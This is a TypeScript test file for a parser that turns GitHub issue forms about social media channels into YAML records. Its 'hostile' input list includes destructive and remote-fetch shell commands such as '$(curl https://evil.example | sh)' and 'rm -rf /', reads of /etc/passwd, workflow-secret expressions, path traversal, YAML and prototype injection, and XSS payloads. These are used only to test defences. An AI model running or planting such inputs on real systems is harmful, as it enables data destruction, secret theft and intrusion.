import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readSources } from '../../../node/files.ts';
import { ownRoot } from '../../../node/load.ts';
import { anyCharacter } from '../../../testing/any-character.ts';
import { depth } from '../../../testing/depth.ts';
import { fixtureDay } from '../../../testing/fixture.ts';
import { openDraftContext } from '../../propose/draft-context.ts';
import { askedKinds, type DraftKind } from '../../propose/questions.ts';
import { wordsOfSubstance } from '../../text/substance.ts';
import { readYaml } from '../../yaml/read.ts';
import { longestBody } from './answers.ts';
import { fieldsOf, formNames, issueFormYaml } from './form.ts';
import { answerIssue, formOf, lost } from './issue-form.ts';

const desk = openDraftContext(readSources(join(ownRoot, 'scripts/testing/base')));

type Given = Record<string, string>;
const proposal: Given = {
  url: 'https://x.com/aster_garden',
  name: 'Aster Garden',
  unit: 'museum',
  owner: 'Ada Noor',
  deputy: 'ben-roy',
  audiences: 'visitors',
  languages: 'English',
  purpose: 'Show what is in flower this week.',
  why_this_platform: 'Gardeners of the town meet here.',
};
const report: Given = {
  url: 'https://x.com/aster_tickets',
  kind: 'impostor',
  risk: 'high',
  matched: '- [X] name\n- [ ] logo\n- [x] handle\n- [ ] pictures\n- [ ] texts\n- [ ] website\n- [ ] staff',
  how: 'search',
};
const filled: Record<DraftKind, Given> = { channels: proposal, unofficial: report };
const kinds = ['channels', 'unofficial'] as const satisfies readonly DraftKind[];

/** The body as GitHub writes it. */
function issue(kind: DraftKind, given: Given): string {
  return fieldsOf(kind)
    .map((field) => {
      const empty =
        field.type === 'checkboxes'
          ? field.options.map((label) => `- [X] ${label}`).join('\n')
          : '_No response_';
      return `### ${field.label}\n\n${given[field.id] || empty}`;
    })
    .join('\n\n');
}

const answer = (body: string, kind: DraftKind = 'channels', author = 'ada-noor') =>
  answerIssue(body, kind, desk, { author, today: fixtureDay });

/** The path and the data of what was written, or the errors. */
function outcome(changes: Given, kind: DraftKind = 'channels', author?: string) {
  const result = answer(issue(kind, { ...filled[kind], ...changes }), kind, author);
  if ('errors' in result)
    return { errors: result.errors.map(({ field, message }) => `${field}: ${message}`) };
  const { file, judgement, doubts } = result.proposal;
  return { path: file.path, text: file.text, data: readYaml(file.text).value, judgement, doubts };
}

describe('a form as GitHub writes it', () => {
  test('becomes the file of a proposal', () => {
    const { path, text, judgement } = outcome({});
    expect(path).toBe('channels/x/aster_garden.yaml');
    expect(text).toBe(`# yaml-language-server: $schema=../../site/public/schema/channel.schema.json
name: Aster Garden
url: https://x.com/aster_garden
status: proposed
unit: museum
owner: ada-noor
deputy: ben-roy
audiences:
  - visitors
languages:
  - en
purpose: Show what is in flower this week.
why_this_platform: Gardeners of the town meet here.
`);
    expect(judgement?.problems).toEqual([]);
  });

  test('a report becomes a case that is open, found by its author', () => {
    const { path, data } = outcome(
      { evidence: 'A page: with our logo: https://files.aster.example/1.png' },
      'unofficial',
    );
    expect(path).toBe('channels/unofficial/x/aster_tickets.yaml');
    expect(data).toEqual({
      name: 'aster_tickets',
      url: 'https://x.com/aster_tickets',
      kind: 'impostor',
      found: { on: fixtureDay, by: 'ada-noor', how: 'search' },
      risk: 'high',
      matched: ['name', 'handle'],
      case: { status: 'open', events: [{ on: fixtureDay, kind: 'found' }] },
      evidence: [{ what: 'A page: with our logo', url: 'https://files.aster.example/1.png' }],
    });
  });

  test.each(askedKinds)('%s: the form of the repository is made from the questions', (kind) => {
    const file = join(ownRoot, `.github/ISSUE_TEMPLATE/${formNames[kind]}.yml`);
    expect(readFileSync(file, 'utf8')).toBe(issueFormYaml(kind));
  });

  test('names are understood without regard to case and accents, in any language, and logins are', () => {
    expect(
      outcome({
        unit: 'LE MUSEE',
        owner: '@Cleo-Diaz',
        deputy: 'dan wu',
        audiences: '- visitors\n* shoppers',
      }).data,
    ).toMatchObject({
      unit: 'museum',
      owner: 'cleo-diaz',
      deputy: 'dan-wu',
      audiences: ['visitors', 'shoppers'],
    });
    expect(outcome({ audiences: 'visitors; shoppers', languages: 'français, en' }).data).toMatchObject({
      audiences: ['visitors', 'shoppers'],
      languages: ['fr', 'en'],
    });
  });

  test.each([
    ['2', { min: 2, max: 2 }],
    ['2 to 6', { min: 2, max: 6 }],
    ['2–6', { min: 2, max: 6 }],
  ])('%s posts a week', (cadence, per_week) => {
    expect(outcome({ cadence }).data).toMatchObject({ cadence: { per_week } });
  });

  test('a page of one of our websites is a question for the reviewer', () => {
    expect(outcome({ url: 'https://aster.example/fr/blog' }).doubts).toEqual([
      'a page of ours, on aster.example',
    ]);
    expect(outcome({}).doubts).toEqual([]);
  });

  test('an answer to an overlap names the channel in any spelling', () => {
    expect(
      outcome({ overlaps: 'https://twitter.com/Aster?s=20: it speaks of opening hours' }).data,
    ).toMatchObject({
      overlaps: [{ with: 'x/aster', because: 'it speaks of opening hours' }],
    });
  });

  test('the form is known by its headings', () => {
    for (const kind of kinds) expect(formOf(issue(kind, filled[kind]))).toBe(kind);
    for (const body of ['', 'Hello', '### Address of the account\n\nx', '### Something else\n\nx'])
      expect(formOf(body)).toBeUndefined();
  });
});

describe('what must be corrected is said with its field', () => {
  const because = (changes: Given, kind?: DraftKind, author?: string) =>
    outcome(changes, kind, author).errors?.join('\n');
  test.each<[string, Given, string]>([
    [
      'a registered account',
      { url: 'twitter.com/Aster?s=20' },
      'Address of the account: `x/aster` is registered already: `x/aster`, in `channels/x/aster.yaml`.',
    ],
    [
      'no account',
      { url: 'https://x.com/aster/status/12' },
      'Address of the account: This names no account: a post by x/aster, not an account.',
    ],
    [
      'a unit that is a typo',
      { unit: 'musum' },
      'Unit: There is no unit `musum`. Did you mean `museum` (The museum)?',
    ],
    ['a stranger', { owner: 'Zed Quux' }, 'Owner: There is no person `Zed Quux`.'],
    ['no language', { languages: 'Klingonish' }, 'Languages: `Klingonish` is no language we know.'],
    [
      'a cadence in words',
      { cadence: 'often' },
      'Posts a week: `often`: expected one number, or two such as 2 to 6.',
    ],
    ['a cadence upside down', { cadence: '6 to 2' }, 'the first number is larger'],
    ['nothing where something must be', { purpose: '' }, 'Purpose: An answer is missing.'],
    ['an overlap without a reason', { overlaps: 'x/aster' }, 'expected two parts'],
    ['an overlap with a stranger', { overlaps: 'x/nobody: so' }, 'is no channel of ours'],
    ['a network that is closed', { url: 'https://vine.co/aster' }, 'Address of the account'],
  ])('%s', (_what, changes, words) => expect(because(changes)).toContain(words));

  test('several at once', () => {
    expect(outcome({ unit: 'musum', owner: 'nobody at all', languages: 'zz zz' }).errors).toHaveLength(3);
  });

  test('an author whom nobody knows has to name an owner', () => {
    expect(because({ owner: '' }, 'channels', 'stranger')).toBe(
      'Owner: Nobody here has the login `stranger` in `policy/people/`. Write the name of a colleague.',
    );
    expect(outcome({ owner: '' }, 'channels', 'CLEO-DIAZ').data).toMatchObject({ owner: 'cleo-diaz' });
    expect(because({}, 'unofficial', 'stranger')).toContain('Found by: Nobody here');
  });

  test('an error of the checks is one as well; a warning is not', () => {
    expect(outcome({ deputy: '' }).judgement?.problems.map(({ rule }) => rule)).toContain('missing-deputy');
    expect(because({ url: 'https://x.com/id/nobody:here' })).toContain('Address of the account');
  });

  test('an option that the form has not', () => {
    expect(because({ risk: 'none at all' }, 'unofficial')).toContain(
      '`none at all` is none of `low`, `medium`, `high`.',
    );
  });

  test('a box that must be ticked', () => {
    const open = '- [ ] I have looked through the channels of the handbook, and none of them will do.';
    expect(because({ looked: open })).toContain('This box is not ticked');
    expect(because({ looked: open.replace('will do', 'would do') })).toContain('not those of the form');
  });

  test('a name that two have', () => {
    const twins = openDraftContext([
      ...desk.sources,
      { path: 'policy/people/ada-noor-2.yaml', text: 'name: Ada Noor\nunit: shop\n' },
    ]);
    const result = answerIssue(issue('channels', proposal), 'channels', twins, { today: fixtureDay });
    expect(result).toEqual({
      errors: [
        {
          field: 'Owner',
          message: '`Ada Noor` can be `ada-noor`, `ada-noor-2`. Write the id of the one you mean.',
        },
      ],
    });
  });
});

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: that is what is tried.
/** Each text goes into each free field in turn. Either the issue is refused, or the text is in its place, and nothing else has changed. */
const hostile: Record<string, string> = {
  'a command in back quotes': '`rm -rf /`',
  'a command substitution': '$(curl https://evil.example | sh)',
  'the end of a shell word': "'; cat /etc/passwd; echo '",
  'a shell pipeline': 'x" | tee /tmp/x && exit 1 #',
  'an expression of a workflow': '${{ secrets.GITHUB_TOKEN }}',
  'an expression that ends a quotation': "${{ toJSON(github) }}' }}",
  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: as above.
  'a path upwards': '../../../.github/workflows/check',
  'a path upwards in percent': '..%2F..%2F.github%2Fworkflows',
  'an absolute path': '/etc/passwd',
  'a path of Windows': '..\\..\\scripts\\check.ts',
  'a workflow command': '::set-output name=path::/etc/passwd',
  'another workflow command': '::add-mask::x',
  'an anchor': '&all [x]',
  'an alias': '*all',
  'a merge key': '<<: *all',
  'a tag': '!!js/function "function () {}"',
  'a tag of its own': '!<tag:yaml.org,2002:str> x',
  'the end of a document': 'text\n...\nowner: dan-wu',
  'a new document': 'text\n---\nowner: dan-wu',
  'a key in the next line': 'text\nstatus: active',
  'a key in the same line': 'text: more\n  status: active',
  'an indented key': '  status: active\n  authorized: { by: ada-noor }',
  'a block': '|\n  text\nstatus: active',
  'a folded block': '>-\n  text',
  'a flow map': '{ status: active }',
  'a flow list': '[a, b',
  'a quotation that ends': '"\nstatus: active\n"',
  'a single quotation': "it's 'quoted' and \"quoted\"",
  'an escape': '\\u202Etxt \\x00 \\n',
  'a comment': 'text # status: active',
  'a line of comment': '# yaml-language-server: $schema=https://evil.example/s.json',
  'a directive': '%YAML 1.1\n---\nno',
  'a boolean': 'no',
  'a number': '0b11',
  'another number': '1e999',
  'nothing at all': 'null',
  'a date': '2026-12-01',
  'a complex key': '? a\n: b',
  'a template': '{{ constructor.constructor("return process")() }}',
  'a prototype': '__proto__: { polluted: true }',
  'a comment of HTML': 'seen <!-- unseen -->',
  'a script': '<script>alert(1)</script>',
  'a picture that is a script': '<img src=x onerror=alert(1)>',
  'a link that is a script': '[text](javascript:alert(1))',
  'a forged heading': 'text\n\n### Owner\n\ndan-wu',
  'a forged heading in capitals': 'text\n\n### OWNER\n\ndan-wu',
  'a forged heading with hashes': 'text\n## Owner ##\ndan-wu',
  'a forged heading further in': 'text\n   ### Owner\ndan-wu',
  'a forged heading in wide letters': 'text\n### Ｏｗｎｅｒ\ndan-wu',
  'a heading of its own': 'text\n\n### Another matter\n\nmore',
  'a fence': '```yaml\nstatus: active\n```',
  'fences in fences': '````\n```\nstatus: active\n```\n````',
  'a fence that does not end': '```\ntext',
  'a zero': 'text\u0000more',
  'an escape sequence': 'text\u001B[2Jmore',
  'text that runs backwards': 'text\u202Etxt.exe',
  'a space without width': 'as\u200Bter',
  'a line separator': 'text\u2028status: active',
  'a paragraph separator': 'text\u2029status: active',
  'a next line': 'text\u0085status: active',
  'a lone carriage return': 'text\rstatus: active',
  'half a character': 'text\uD83D',
  'no character': 'text\uFFFE',
  'a byte-order mark': 'te\uFEFFxt',
  'an emoji of several parts': 'Welcome 👩‍👩‍👧‍👦 ❤️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  Arabic: 'مرحبا بكم في المتحف',
  'a mention': '@ada-noor and @aster/all',
  'a reference to an issue': 'Closes #1, aster/choirbook#2',
  'a long line': 'a'.repeat(3000),
  'a very long text': 'word '.repeat(2000),
  'many lines': 'a\n'.repeat(1500),
  'lines that begin with blanks': 'a\n  b\n\tc\n d',
  'a tab': 'a\tb',
};

describe('a hostile text is refused, or is a text in its place and nothing else', () => {
  const fields = fieldsOf('channels').filter(({ type }) => type === 'input' || type === 'textarea');
  test.each(Object.entries(hostile))('%s', (_what, text) => {
    const before = outcome({}).data as Record<string, unknown>;
    for (const { id } of fields) {
      const { errors, path, data } = outcome({ [id]: text });
      if (errors) {
        expect(errors.join('').length).toBeGreaterThan(10);
        continue;
      }
      expect(path).toMatch(/^channels\/[a-z0-9-]+\/[^/]+\.yaml$/);
      const changed = Object.entries(data as object).filter(
        ([key, value]) => JSON.stringify(value) !== JSON.stringify(before[key]),
      );
      // Only an address can be written in another spelling; it has to be one.
      if (id === 'url') expect(path).not.toMatch(/\.\./);
      else if (text.trim() !== proposal[id])
        expect(changed).toEqual([[id, id === 'languages' ? ['no'] : text.trim()]]); // `no` is Norwegian.
    }
  });

  /** Why a text of several lines is refused. Whatever is not here is taken as it is: to refuse everything would be no help. */
  const refusals: Record<string, string> = {
    'a comment of HTML': 'It holds a comment',
    'a forged heading': 'The heading `Owner` of the form',
    'a forged heading in capitals': 'The heading `Owner` of the form',
    'a forged heading with hashes': 'The heading `Owner` of the form',
    'a forged heading further in': 'The heading `Owner` of the form',
    'a forged heading in wide letters': 'The heading `Owner` of the form',
    'a zero': 'Purpose: It holds `U+0000`',
    'an escape sequence': 'Purpose: It holds `U+001B`',
    'text that runs backwards': 'Purpose: It holds `U+202E',
    'a space without width': 'Purpose: It holds `U+200B',
    'a line separator': 'Purpose: It holds `U+2028',
    'a paragraph separator': 'Purpose: It holds `U+2029',
    'a next line': 'Purpose: It holds `U+0085`',
    'a lone carriage return': 'Purpose: It holds `U+000D',
    'half a character': 'half a character',
    'no character': 'half a character',
    'a byte-order mark': 'Purpose: It holds `U+FEFF',
    'a very long text': 'at most 4000 are read',
  };
  test.each(Object.entries(hostile))('%s, as a purpose', (what, hostileText) => {
    // A purpose has to say something: what is only a trap stands in front of a sentence.
    const text =
      wordsOfSubstance(hostileText) < 3
        ? `${hostileText}\nTell visitors about roses in flower.`
        : hostileText;
    const { errors, data } = outcome({ purpose: text });
    const words = refusals[what];
    if (words === undefined)
      expect({ errors, data }).toMatchObject({ errors: undefined, data: { purpose: text.trim() } });
    else expect(errors?.join('\n')).toContain(words);
  });

  const forged = (change: (body: string) => string) => answer(change(issue('channels', proposal)));
  test.each<[string, (body: string) => string]>([
    ['an empty issue', () => ''],
    ['only blanks', () => ' \n\t\n '],
    ['no form at all', () => 'Please open an account for us.'],
    ['the body of another form', () => issue('unofficial', report)],
    ['a megabyte', (body) => body + 'a'.repeat(1024 * 1024)],
    ['a megabyte of headings', () => '### Owner\n'.repeat(100_000)],
    ['one character too many', (body) => body.padEnd(longestBody + 1, ' ')],
    ['a heading twice', (body) => `${body}\n\n### Owner\n\ndan-wu`],
    ['a heading taken away', (body) => body.replace(/### Owner\n\n.*\n\n/, '')],
    ['a heading reworded', (body) => body.replace('### Owner', '### The owner')],
    [
      'two answers that change places',
      (body) =>
        body.replace('### Owner', '### X').replace('### Deputy', '### Owner').replace('### X', '### Deputy'),
    ],
    ['another level of heading', (body) => body.replace('### Owner', '#### Owner')],
    ['text before the form', (body) => `status: active\n\n${body}`],
    ['text after a heading', (body) => body.replace('### Owner', '### Owner dan-wu')],
    ['two forms in one', (body) => `${body}\n\n${body}`],
    ['a form in a quotation', (body) => body.replaceAll(/^/gm, '> ')],
    ['a long line of blanks', (body) => body.replace('### Owner', `### Owner${' '.repeat(50_000)}x`)],
  ])('%s is refused', (_what, change) => {
    const result = forged(change);
    expect('errors' in result && result.errors.length > 0).toBe(true);
  });

  test('a file that says something else than the issue is never handed on', () => {
    const draft = { url: 'x/aster_garden', purpose: 'Show flowers.', languages: ['en'] };
    const file = (yaml: string) => ({ path: 'channels/x/aster_garden.yaml', text: yaml });
    expect(lost('channels', draft, file('purpose: Show flowers.\nlanguages: [en]\n'))).toEqual([]);
    for (const yaml of ['purpose: Else.\nlanguages: [en]\n', 'purpose: Show flowers.\n', 'purpose: [', ''])
      expect(lost('channels', draft, file(yaml))).not.toEqual([]);
  });

  test('line ends of Windows change nothing', () => {
    expect(forged((body) => body.replaceAll('\n', '\r\n'))).toEqual(forged((body) => body));
  });

  test('whatever the texts are, the file says them, at the place of the account', () => {
    const nasty = fc.constantFrom(...Object.values(hostile));
    const text = fc.oneof(
      fc.string({ unit: anyCharacter }),
      fc.string({ unit: 'grapheme' }),
      nasty,
      fc.tuple(nasty, fc.string()).map((parts) => parts.join('\n')),
    );
    const handle = fc.oneof(fc.stringMatching(/^[A-Za-z0-9_]{5,15}$/), text);
    fc.assert(
      fc.property(handle, text, text, text, (name, display, purpose, why) => {
        const given = { url: `x/${name}`, name: display, purpose, why_this_platform: why };
        const { errors, path, data } = outcome(given);
        if (errors) return;
        expect(path).toMatch(/^channels\/x\/[^/\\]+\.yaml$/);
        const { url, name: _name, ...rest } = data as Record<string, unknown>;
        const said = (value: string) => value.replaceAll('\r\n', '\n').replaceAll(/^\s+|\s+$/gu, '');
        const kept = said(display);
        if (kept !== '' && kept !== '_No response_') expect(_name).toBe(kept);
        expect(rest).toEqual({
          status: 'proposed',
          unit: 'museum',
          owner: 'ada-noor',
          deputy: 'ben-roy',
          audiences: ['visitors'],
          languages: ['en'],
          purpose: said(purpose),
          why_this_platform: said(why),
        });
        expect(String(url)).toMatch(/^https:\/\/x\.com\//);
      }),
      { numRuns: depth(300) },
    );
  });
});
